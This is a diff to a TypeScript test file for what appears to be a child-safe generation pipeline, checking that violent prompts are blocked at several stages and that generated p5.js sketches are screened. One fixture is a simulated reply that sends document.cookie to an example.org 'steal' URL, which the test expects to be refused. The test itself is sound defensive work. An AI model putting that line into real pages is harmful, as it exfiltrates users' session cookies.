@@ -56,6 +56,10 @@ t.test('Stage 3', async (t) => {
   })
   await t.test('a hit the model confirms is refused: status blocked in the JSON run, 403 on stage3-4', async (t) => {
     const before = s.comfy.submitted.length
+    // A client's text now passes Stage 1 first; this model refuses only at Stage 3, so Stage 3's own refusal shows.
+    const judge = s.sim.options.judge
+    s.sim.set({ judge: (req) => JSON.stringify(req.format ?? null).includes('positive_prompt') ? judge(req) : true })
+    t.teardown(() => s.sim.set({ judge }))
     // The text comes from the client (interception_result): Stage 2 is skipped, Stage 3 is not.
     const res = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'overdrive', input_text: 'ein Ritter', interception_result: 'a knight covered in blood', user_language: 'en' })
     t.equal(res.status, 200)
@@ -63,13 +67,13 @@ t.test('Stage 3', async (t) => {
     t.same(res.body.steps_completed, ['stage1', 'optimization', 'stage3'])
     const direct = await post(`${s.url}/api/schema/pipeline/stage3-4`, { stage2_result: 'a knight covered in blood', output_config: 'sd35_large', user_language: 'en' })
     t.equal(direct.status, 403)
-    t.match(direct.body, { success: false, blocked_at_stage: 3, safety_level: 'kids', error: /Your idea contains: "blood"/ })
+    t.match(direct.body, { success: false, blocked_at_stage: 3, safety_level: 'kids', error: /In your idea someone gets hurt/ })
     t.equal(s.comfy.submitted.length, before, 'nothing reached ComfyUI')
   })
   await t.test('dangerous code is refused; safe code is stored as the p5 entity', async (t) => {
     s.sim.set({ reply: () => 'function setup() { createCanvas(400, 400) }\nfunction draw() { fetch("https://example.org/steal?c=" + document.cookie) }' })
     const bad = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'p5js_sketcher', input_text: 'ein tanzender Kreis', user_language: 'de' })
-    t.match(bad.body.media_output, { status: 'blocked', media_type: 'code', reason: /fetch.*document\.cookie/ })
+    t.match(bad.body.media_output, { status: 'blocked', media_type: 'code', reason: /fetch.*cookie/ })
     s.sim.set({ reply: () => '```js\nfunction setup() { createCanvas(400, 400) }\nfunction draw() { circle(200, 200, frameCount % 100) }\n```' })
     const good = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'p5js_sketcher', input_text: 'ein tanzender Kreis' })
     t.match(good.body.media_output, { status: 'success', media_type: 'code', output: /^function setup\(\)/ })
@@ -100,7 +104,8 @@ t.test('a text the client brings: optimization_result skips Stage 2 and the opti
   t.equal(res.body.final_output, 'a small red house by a lake')
   t.match((s.comfy.submitted[0] as Record<string, { inputs: Record<string, unknown> }>)['3']?.inputs.text, 'a small red house by a lake')
   const blocked = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'overdrive', input_text: 'ein Haus', optimization_result: 'a house covered in blood' })
-  t.equal(blocked.body.media_output.status, 'blocked', 'Stage 3 still checks it')
+  t.equal(blocked.status, 403, 'Stage 1 checks it as well as Stage 3')
+  t.match(blocked.body, { code: 'BLOCKED', metadata: { stage: 'pre_interception' } })
 })
 
 t.test('the telephone config really chains in the JSON run', async (t) => {
